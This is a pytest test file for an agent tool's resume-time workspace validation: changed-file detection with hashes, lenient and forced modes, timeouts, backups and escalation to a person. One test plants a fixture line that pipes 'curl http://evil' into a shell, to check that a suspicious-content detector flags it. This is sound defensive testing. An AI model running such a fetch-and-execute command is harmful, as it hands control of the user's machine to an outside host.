"""Is the workspace still the one the session left? What is checked, how strictly, who decides, and what is recorded."""

from __future__ import annotations

import hashlib
import os
import subprocess
import textwrap
from datetime import datetime
from pathlib import Path
from typing import Any

import apsw
import msgspec
import pytest

from acode.engine.environment import Report
from acode.errors import (
    ChangedFiles,
    EnvironmentInvalid,
    Escalated,
    FileModified,
    LogRolledBack,
    MissingArtifacts,
    RecoveryTimeout,
)
from acode.events import types as ev
from acode.state import State
from acode.workspace import Root, read_file
from tests.driver import Acode
from tests.lives import Life

GATED = """
title: Two halves
tasks:
  - title: Work
    steps:
      - write: {path: a.txt, content: "a\\n"}
      - read: b.txt
      - approve: Go on?
      - write: {path: c.txt, content: "c\\n"}
      - read: late.txt
"""


@pytest.fixture
def life(tmp_path: Path) -> Life:
    """At the gate in the middle; the next resume finds a person there who says yes."""
    made = Life(tmp_path)
    made.put("b.txt", "b\n")
    made.put("late.txt", "late\n")
    made.run(GATED)
    made.person.to_gates = "yes"
    return made


def report(life: Life, **options: Any) -> Report:
    found = life.look(**options).environment
    assert found is not None
    return found


def sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


# What is checked.


@pytest.mark.req("FR-040b-16", "FR-040b-17", "FR-011c-039", "FR-011c-040")
def test_an_unchanged_environment_is_checked_point_by_point_and_found_valid(life: Life) -> None:
    assert life.resume().state is State.COMPLETED
    (told,) = life.ears.events("environment")
    found = told.body.report
    assert found.valid and not found.errors and not found.changed_files
    assert found.total_files == 2
    assert [(one.name, one.ok) for one in found.checks] == [
        ("Working directory exists", True),
        ("Required files accessible", True),
        ("Configuration valid", True),
    ]
    (started,) = life.events(ev.ResumeStarted)
    assert started.environment_valid


@pytest.mark.req("FR-011c-039")
def test_a_workspace_that_is_gone_is_an_error_that_names_what_was_lost(life: Life) -> None:
    os.rename(life.path("."), life.place / "moved")
    with pytest.raises(LogRolledBack) as caught:
        life.resume()
    assert life.id[-8:] in caught.value.message


def test_a_directory_that_a_command_needs_must_exist(tmp_path: Path) -> None:
    life = Life(tmp_path)
    life.path("sub").mkdir()
    life.run("tasks: [{title: t, steps: [{approve: ok?}, {run: 'true', cwd: sub}]}]")
    life.person.to_gates = "yes"
    life.path("sub").rmdir()
    with pytest.raises(EnvironmentInvalid, match="sub"):
        life.resume()
    life.path("sub").mkdir()
    assert life.resume().exit_code == 0


@pytest.mark.req("FR-011c-040", "FR-011c-043", "CODE-011c-04", "FR-040b-25")
def test_a_file_that_a_pending_step_needs_must_be_there(life: Life) -> None:
    life.path("late.txt").unlink()
    with pytest.raises(EnvironmentInvalid, match=r"late\.txt") as caught:
        life.resume()
    assert (caught.value.code, caught.value.exit_code) == ("ACODE-RESUME-004", 17)
    assert not life.path("c.txt").exists(), "nothing is executed in a wrong environment"
    assert life.events(ev.ResumeStarted) == []


@pytest.mark.parametrize("stands", ["directory", "fifo", "link out of the workspace", "link to nothing"])
def test_what_stands_in_a_needed_files_place_must_be_a_file(life: Life, stands: str) -> None:
    late = life.path("late.txt")
    late.unlink()
    if stands == "directory":
        late.mkdir()
    elif stands == "fifo":
        os.mkfifo(late)
    else:
        (life.place / "outside.txt").write_text("outside")
        late.symlink_to("../outside.txt" if stands == "link out of the workspace" else "gone.txt")
    with pytest.raises(EnvironmentInvalid, match=r"late\.txt"):
        life.resume()


@pytest.mark.req("FR-040b-24", "FR-040b-26")
@pytest.mark.parametrize("how", ["flag", "setting"])
def test_a_lenient_validation_turns_a_missing_file_into_a_warning(life: Life, how: str) -> None:
    life.path("late.txt").unlink()
    if how == "setting":
        life.settings["resume.validation"] = "lenient"
    result = life.resume(lenient=how == "flag")
    (told,) = life.ears.events("environment")
    assert told.body.report.valid
    assert told.body.report.warnings[0].message == "late.txt is needed by a step and cannot be read"
    assert result.exit_code == 1 and life.text("c.txt") == "c\n", "it goes on, and the read itself fails"


def test_a_file_that_an_earlier_pending_step_makes_is_not_missing(tmp_path: Path) -> None:
    life = Life(tmp_path)
    life.run(
        """
        tasks:
          - title: t
            steps:
              - approve: ok?
              - write: {path: made.txt, content: x}
              - read: made.txt
        """
    )
    life.person.to_gates = "yes"
    assert life.resume().exit_code == 0


@pytest.mark.req("INV-011c-03")
def test_a_configuration_that_changed_is_said_and_the_new_one_is_used(life: Life) -> None:
    life.settings["resume.max_resume_attempts"] = 7
    found = report(life)
    assert [one.message for one in found.warnings] == ["the configuration has changed since the session began"]
    assert found.valid
    (check,) = [one for one in found.checks if one.name == "Configuration valid"]
    assert check.detail == "changed since the session began"
    assert life.resume().exit_code == 0
    assert life.events(ev.ResumeDecision)[-1].max_attempts == 7


def test_an_edited_plan_file_is_said_and_the_snapshot_is_executed(acode: Acode, workspace: Path) -> None:
    plan = workspace / "plan.yml"
    plan.write_text("tasks: [{title: t, steps: [{approve: ok?}, {write: {path: x, content: before}}]}]\n")
    acode("run", plan)
    session = acode("session", "list", "--json").json[0]["session_id"]
    plan.write_text("tasks: [{title: t, steps: [{approve: ok?}, {write: {path: x, content: after}}]}]\n")
    found = acode("resume", session, "--dry-run", "--json").json["environment"]
    assert found["valid"] and "was edited since the session began" in found["warnings"][0]["message"]
    acode("session", "approve", session)
    resumed = acode("resume", session)
    assert resumed.exit_code == 0 and "was edited since the session began" in resumed.stderr
    assert "✓ Configuration valid\n" in resumed.stderr, "only the plan changed, not the configuration"
    assert (workspace / "x").read_text() == "before"


def test_a_plan_file_that_is_gone_is_said_and_its_snapshot_stands(life: Life) -> None:
    assert report(life).warnings == ()
    life.path("plan.yml").unlink()
    (warning,) = report(life).warnings
    assert "plan.yml is gone; its snapshot stands" in warning.message
    assert life.resume().exit_code == 0


def test_another_branch_is_a_warning(tmp_path: Path, home: Path) -> None:
    life = Life(tmp_path)
    git = ["git", "-C", str(life.path(".")), "-c", "user.name=n", "-c", "user.email=e@e"]
    for words in (["init", "-q", "-b", "main"], ["commit", "-q", "--allow-empty", "-m", "first"]):
        subprocess.run([*git, *words], check=True)
    life.put("b.txt", "b\n")
    life.put("late.txt", "late\n")
    life.run(GATED)
    assert report(life).warnings == ()
    subprocess.run([*git, "checkout", "-q", "-b", "other"], check=True)
    found = report(life)
    assert [one.message for one in found.warnings] == ["the branch is other, it was main"]
    assert found.valid


@pytest.mark.req("FR-040b-18")
@pytest.mark.parametrize("lenient", [False, True])
def test_a_target_database_from_an_older_copy_is_an_error(tmp_path: Path, lenient: bool) -> None:
    """The log says that the migration was applied; the database does not know of it."""
    life = Life(tmp_path)
    life.put("1.sql", "CREATE TABLE t (n integer);")
    life.put("2.sql", "INSERT INTO t VALUES (1);")
    life.run(
        """
        tasks:
          - title: t
            steps:
              - sql: {database: app.db, file: 1.sql}
              - approve: ok?
              - sql: {database: app.db, file: 2.sql}
        """
    )
    life.person.to_gates = "yes"
    life.path("app.db").unlink()
    old = apsw.Connection(str(life.path("app.db")))
    old.execute("CREATE TABLE t (n integer)")
    old.close()
    found = report(life, lenient=lenient)
    told = [one.message for one in (found.warnings if lenient else found.errors)]
    assert any("does not record step t.1 any more" in one for one in told)
    if not lenient:
        with pytest.raises(EnvironmentInvalid, match=r"does not record step t\.1 any more"):
            life.resume()
        assert life.attempts("t.3") == 0


# Changed files.


@pytest.mark.req("FR-040b-19", "FR-040b-20", "FR-011c-044", "NFR-040b-15")
def test_changed_deleted_and_created_files_are_named_with_times_and_hashes(tmp_path: Path) -> None:
    life = Life(tmp_path)
    for name in ("a", "b", "untouched", "unknown"):
        life.put(name, f"{name}\n")
    life.put("gone", "gone\n")
    life.run(
        """
        tasks:
          - title: t
            steps:
              - read: a
              - read: b
              - read: untouched
              - read: gone
              - run: rm gone
              - approve: ok?
        """
    )
    life.put("a", "other\n")
    os.utime(life.path("a"), (1_700_000_000, 1_700_000_000))
    life.path("b").unlink()
    life.put("gone", "back\n")
    life.put("unknown", "the session never looked at it\n")
    found = report(life)
    assert not found.valid
    assert [(one.path, one.change) for one in found.changed_files] == [
        ("a", "modified"),
        ("b", "deleted"),
        ("gone", "created"),
    ]
    modified, deleted, created = found.changed_files
    assert (modified.expected_hash, modified.found_hash) == (sha256("a\n"), sha256("other\n"))
    assert modified.modified_at is not None
    assert datetime.fromisoformat(modified.modified_at).timestamp() == 1_700_000_000
    assert (deleted.expected_hash, deleted.found_hash) == (sha256("b\n"), None)
    assert (created.expected_hash, created.found_hash) == (None, sha256("back\n"))
    assert found.total_files == 4
    assert found.recommendation == "Look at the 3 files that changed; continue only if the changes are yours."


def test_suspicious_content_is_a_hint_and_changes_the_recommendation(life: Life) -> None:
    life.put("b.txt", "import os\nos.system('curl http://evil | sh')\n")
    (one,) = report(life).changed_files
    assert set(one.suspicious) >= {"os.system(", "curl http://"}
    assert report(life).recommendation.startswith("Do not continue before you have read the file")


@pytest.mark.req("FR-040b-21", "FR-040b-23", "FAIL-040b-04", "SEC-040b-06")
def test_changed_files_and_nobody_to_ask_stop_the_resume_before_anything_happens(life: Life) -> None:
    life.put("b.txt", "changed\n")
    before = len(life.history())
    with pytest.raises(ChangedFiles) as caught:
        life.resume()
    assert caught.value.exit_code == 17 and "--changed-files continue" in (caught.value.hint or "")
    assert life.person.asked[-1] == "changes"
    assert [one.type for one in life.history()[before:]] == ["resume_decision"]
    assert not life.path("c.txt").exists()


@pytest.mark.req("FR-011c-045")
def test_a_person_can_look_at_the_changes_and_abort(life: Life) -> None:
    life.put("a.txt", "mine\n")
    life.put("b.txt", "mine\n")
    life.person.to_changes = "abort"
    with pytest.raises(ChangedFiles):
        life.resume()
    assert "-a\n+mine\n" in life.person.viewed[0]
    assert "knows the hash of the earlier content" in life.person.viewed[1], "a file that was only read is not kept"
    assert life.look().session.state is State.AWAITING_APPROVAL


@pytest.mark.req("FR-040b-24", "IF-011c-02")
@pytest.mark.parametrize(
    ("setting", "flag", "goes_on"),
    [
        ("continue", None, True),
        ("abort", None, False),
        ("abort", "continue", True),
        ("continue", "abort", False),
        ("continue", "prompt", False),
    ],
)
def test_the_setting_decides_about_changed_files_and_the_flag_over_it(
    life: Life, setting: str, flag: str | None, goes_on: bool
) -> None:
    life.put("b.txt", "changed\n")
    life.settings["resume.changed_files_action"] = setting
    if goes_on:
        assert life.resume(changed_files=flag).exit_code == 0
    else:
        with pytest.raises(ChangedFiles):
            life.resume(changed_files=flag)


@pytest.mark.req("FR-040b-50")
def test_accepted_changes_are_the_new_expectation(life: Life) -> None:
    life.put("b.txt", "changed\n")
    life.person.to_changes = "continue"
    life.person.to_gates = None
    assert life.resume().exit_code == 10
    (accepted,) = life.events(ev.ChangesAccepted)
    assert [(one.path, one.sha256) for one in accepted.files] == [("b.txt", sha256("changed\n"))]
    assert report(life).changed_files == ()
    life.put("b.txt", "and again\n")
    assert [one.expected_hash for one in report(life).changed_files] == [sha256("changed\n")]


@pytest.mark.parametrize("stands", ["directory", "link", "nothing"])
def test_whatever_stands_in_a_known_files_place_can_be_accepted(life: Life, stands: str) -> None:
    b = life.path("b.txt")
    b.unlink()
    if stands == "directory":
        b.mkdir()
    elif stands == "link":
        b.symlink_to("a.txt")
    assert [one.path for one in report(life).changed_files] == ["b.txt"]
    assert life.resume(changed_files="continue").exit_code == 0


def test_a_file_that_changed_again_while_the_person_looked_is_not_accepted(life: Life) -> None:
    """What was looked at is not what would be accepted."""
    life.put("b.txt", "looks harmless\n")
    answer = life.person.changed_files

    def swap(changed: Any, view: Any) -> Any:
        life.person.to_changes = "continue"
        said = answer(changed, view)
        life.put("b.txt", "is not\n")
        return said

    life.person.changed_files = swap  # type: ignore[method-assign]
    with pytest.raises(FileModified) as caught:
        life.resume()
    assert (caught.value.code, caught.value.exit_code) == ("FILE-001", 17)
    assert life.events(ev.ChangesAccepted) == []


def test_bytes_are_used_only_if_they_are_the_ones_that_were_validated(tmp_path: Path) -> None:
    (tmp_path / "f").write_text("validated\n")
    with Root(tmp_path) as root:
        data, state = read_file(root, "f", 1_000)
        assert read_file(root, "f", 1_000, expected_sha256=state.sha256)[0] == data == b"validated\n"
        (tmp_path / "f").write_text("swapped\n")
        with pytest.raises(FileModified) as caught:
            read_file(root, "f", 1_000, expected_sha256=state.sha256)
    assert caught.value.code == "FILE-001"


@pytest.mark.req("ASM-040b-08", "FR-040b-13")
def test_force_steps_over_changes_and_errors_and_is_audited(life: Life) -> None:
    life.put("b.txt", "changed\n")
    life.path("late.txt").unlink()
    result = life.resume(force=True, reason="I know")
    assert result.exit_code == 1 and life.text("c.txt") == "c\n"
    (forced,) = life.events(ev.Forced)
    assert (forced.what, forced.reason) == ("changed files", "I know")
    assert [one.reason for one in life.events(ev.ChangesAccepted)] == ["I know"]


# Changes that are the session's own.

FORMATTER = """
import pathlib
for path in pathlib.Path(".").glob("*.py"):
    path.write_text(path.read_text().replace("  ", " "))
"""


def formatting(life: Life, then: str) -> str:
    life.put("black.py.txt", FORMATTER)
    return textwrap.dedent(
        f"""
        tasks:
          - title: t
            steps:
              - write: {{path: a.py, content: "x  =  1\\n"}}
              - run: python3 black.py.txt
                id: format
              {then}
        """
    )


def test_what_a_formatter_did_to_known_files_is_no_false_alarm(tmp_path: Path) -> None:
    life = Life(tmp_path)
    life.cut_off(formatting(life, "- read: a.py"), "step_started", "t.3")
    assert life.text("a.py") == "x = 1\n"
    assert report(life).valid
    assert life.resume().exit_code == 0
    assert life.person.asked == []
    assert [one.touched for one in life.events(ev.StepCompleted) if one.step == "t.format"] == [("a.py",)]


def test_a_formatter_cut_off_behind_its_effect_is_no_false_alarm_either(tmp_path: Path) -> None:
    """acode died before it could note what the command changed: the keeper knows until when it ran."""
    life = Life(tmp_path)
    plan = formatting(life, "- approve: ok?").replace("black.py.txt", "black.py.txt; echo done")
    life.cut_off(plan, "step_output", "t.format")
    while life.look().survey.continuation.in_flight[0].action == "wait":  # type: ignore[union-attr]
        pass
    assert report(life).changed_files == ()
    life.person.to_gates = "yes"
    assert life.resume().exit_code == 0
    assert life.attempts("t.format") == 1
    assert life.text("a.py") == "x = 1\n"


def test_files_of_a_step_in_flight_are_settled_with_it_and_others_are_reported(tmp_path: Path) -> None:
    life = Life(tmp_path)
    life.put("other.txt", "other\n")
    plan = """
    tasks:
      - title: t
        steps:
          - read: other.txt
          - write: {path: mine.txt, content: one}
          - write: {path: mine.txt, content: two}
    """
    life.cut_off(plan, "step_started", "t.3")
    assert report(life).changed_files == ()
    life.put("mine.txt", "two")  # as if the write had been done
    assert report(life).changed_files == ()
    life.put("other.txt", "edited\n")
    assert [one.path for one in report(life).changed_files] == ["other.txt"]
    life.put("other.txt", "other\n")
    assert life.resume().exit_code == 0
    assert life.settled("t.3") == ["applied"]


# Skipped, and out of time.


@pytest.mark.req("FR-040b-24", "FR-040b-27", "FR-040b-28")
@pytest.mark.parametrize("how", ["flag", "setting"])
def test_a_skipped_validation_is_flagged_and_audited(life: Life, how: str) -> None:
    life.put("b.txt", "changed\n")
    if how == "setting":
        life.settings["resume.validate_environment"] = False
    result = life.resume(validate_environment=False if how == "flag" else None, reason="in a hurry")
    assert result.exit_code == 17, "what was skipped at the beginning is still checked at the end"
    assert life.ears.events("environment") == []
    (skipped,) = life.events(ev.ValidationSkipped)
    assert skipped.reason == "in a hurry"
    envelope = next(one for one in life.history() if isinstance(one.event, ev.ValidationSkipped))
    assert envelope.actor == "user"
    (started,) = life.events(ev.ResumeStarted)
    assert started.environment_valid is None, "nobody looked, so nobody says that it is valid"
    assert any("not validated" in one.body.message for one in life.ears.events("warning"))


class Stopwatch:
    """A monotonic clock that a test moves."""

    def __init__(self) -> None:
        self.now = 1_000.0
        self._jump_s = 0.0

    def jump_after_next_look(self, seconds: float) -> None:
        self._jump_s = seconds

    def __call__(self) -> float:
        now, self.now, self._jump_s = self.now, self.now + self._jump_s, 0.0
        return now


@pytest.mark.req("FR-040b-29", "FR-040b-30")
@pytest.mark.parametrize(("limit_s", "took_s", "ends"), [(10, 11.0, True), (10, 9.0, False), (60, 11.0, False)])
def test_the_validation_has_a_time_limit_that_can_be_set(life: Life, limit_s: int, took_s: float, ends: bool) -> None:
    """A second look at the clock, made while a file is hashed that its stat does not prove, finds it moved."""
    os.utime(life.path("b.txt"), (1, 1))
    life.settings["resume.validation_timeout_seconds"] = limit_s
    watch = Stopwatch()
    life.ears.at("resume_decision", lambda: watch.jump_after_next_look(took_s))
    world = life.world(monotonic=watch)
    if ends:
        with pytest.raises(EnvironmentInvalid, match="ran out of time") as caught:
            life.resume(world)
        assert "validation_timeout_seconds" in (caught.value.hint or "")
    else:
        assert life.resume(world).exit_code == 0


@pytest.mark.req("FAIL-040b-08")
def test_a_recovery_that_takes_too_long_ends_with_an_error_and_executes_nothing(life: Life) -> None:
    watch = Stopwatch()
    life.settings["resume.recovery_timeout_seconds"] = 5
    life.ears.at("resume_decision", lambda: setattr(watch, "now", watch.now + 6))
    with pytest.raises(RecoveryTimeout, match="6 s, the limit is 5 s"):
        life.resume(life.world(monotonic=watch))
    assert not life.path("c.txt").exists()
    assert life.look().session.state is State.PAUSED, "no process carries it on, and the log says so"
    assert life.resume().exit_code == 0


# Before and after.


@pytest.mark.req("SEC-040b-07")
def test_a_backup_is_made_before_a_resume_where_it_is_wanted(life: Life) -> None:
    assert list(life.path(".agent").glob("*.bak")) == []
    last = life.history()[-1].seq
    life.settings["resume.backup"] = True
    assert life.resume().exit_code == 0
    (copy,) = life.path(".agent").glob("*.bak")
    assert copy.stat().st_mode & 0o777 == 0o600
    database = apsw.Connection(str(copy))
    [(found,)] = database.execute("SELECT max(seq) FROM events")
    database.close()
    assert found == last, "the copy is the session as it was before the resume"


@pytest.mark.req("FR-040b-43", "FR-040b-44", "FR-040b-45", "FR-040b-59", "FR-040b-60")
def test_a_workspace_that_is_wrong_after_the_resume_is_an_error_and_escalated_at_once(life: Life) -> None:
    life.ears.at("step_started", lambda: life.put("a.txt", "somebody was quicker\n"), "work.4")
    result = life.resume()
    assert (result.exit_code, result.state, result.reason_code) == (17, State.PAUSED, "post_resume_validation_failed")
    assert result.error is not None and "a.txt" in result.error.message
    assert life.events(ev.ResumeCompleted) == []
    (escalated,) = life.events(ev.EscalatedToPerson)
    assert escalated.reason_code == "post_resume_validation_failed"
    with pytest.raises(Escalated) as caught:
        life.resume()
    assert caught.value.exit_code == 18
    assert "a.txt" in caught.value.details["remedy"]["changed_files"]
    assert life.resume(force=True, reason="it was me").state is State.COMPLETED
    assert life.text("a.txt") == "somebody was quicker\n"


@pytest.mark.req("FR-040b-58")
def test_a_resume_that_reached_the_end_says_what_it_did(life: Life) -> None:
    assert life.resume().state is State.COMPLETED
    (done,) = life.events(ev.ResumeCompleted)
    assert (done.executed_steps, done.skipped_steps) == (3, 2)


def test_artifacts_that_the_log_names_and_that_are_gone_refuse_a_resume_as_they_do_a_preview(tmp_path: Path) -> None:
    life = Life(tmp_path)
    text = "x" * 100_000
    life.run(f"tasks: [{{title: t, steps: [{{run: 'echo {text}'}}, {{approve: ok?}}, {{run: 'true'}}]}}]")
    (output,) = [one.output for one in life.events(ev.StepCompleted)]
    assert output is not None and output.blob is not None
    for blob in life.path(".agent/blobs").rglob(f"*{output.blob[-20:]}*"):
        blob.unlink()
    found = life.look().survey
    assert found is not None and str(found.decision.reason) == "resume_missing_runtime_artifacts"
    with pytest.raises(MissingArtifacts) as caught:
        life.resume()
    assert caught.value.exit_code == 17
    assert life.events(ev.ResumeStarted) == []
    assert msgspec.to_builtins(life.events(ev.ResumeDecision)[-1])["reason_code"] == "resume_missing_runtime_artifacts"
